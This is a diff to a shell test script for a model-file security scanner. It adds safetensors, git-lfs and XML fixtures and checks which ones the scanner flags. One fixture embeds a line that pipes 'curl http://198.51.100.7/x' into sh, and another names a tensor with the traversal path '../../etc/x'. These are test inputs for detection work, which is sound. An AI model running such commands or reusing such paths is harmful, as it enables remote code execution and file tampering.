@@ -64,4 +64,30 @@ printf '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source"
 hostile COMMAND_DANGEROUS "a wheel over an address that nobody proves"
 printf '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": ["%%pip install -q git+https://github.com/huggingface/peft timm"]}], "nbformat": 4, "metadata": {}}' | file a.ipynb
 quiet "packages as notebooks have them"
+# --- text and paths where numbers and names are
+tensor() { # tensor NAME BYTES: a safetensors file of U8
+	rm -rf "$tmp/b"
+	mkdir -p "$tmp/b"
+	python3 - "$1" "$2" >"$tmp/b/a.safetensors" <<-'END'
+	import json, struct, sys
+	b = sys.argv[2].encode()
+	b += bytes(-len(b) % 8)
+	h = json.dumps({sys.argv[1]: {"dtype": "U8", "shape": [len(b)], "data_offsets": [0, len(b)]}}).encode()
+	h += b" " * (-len(h) % 8)
+	sys.stdout.buffer.write(struct.pack("<Q", len(h)) + h + b)
+	END
+}
+tensor a 'import os
+os.system("curl http://198.51.100.7/x | sh")'
+hostile SOURCE_DANGEROUS "source in a tensor"
+tensor tokenizer '{"model": {"type": "BPE", "vocab": {"a": 0}}}'
+quiet "a vocabulary in a tensor"
+tensor ../../etc/x 'aaaaaaaabbbbbbbb'
+hostile CONFIG_PATH "a tensor whose name is a path"
+printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 9\n' 0 | file model.bin
+exits 2 "a pointer of git-lfs" assay-inspect "$tmp/b"
+prints 'note *FILE_OPAQUE'
+printf '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="A" version="custom_opset"/></layers></net>\n' | file m.xml
+run assay-inspect "$tmp/b"
+prints 'medium *XML_EXTENSION'
 done_testing
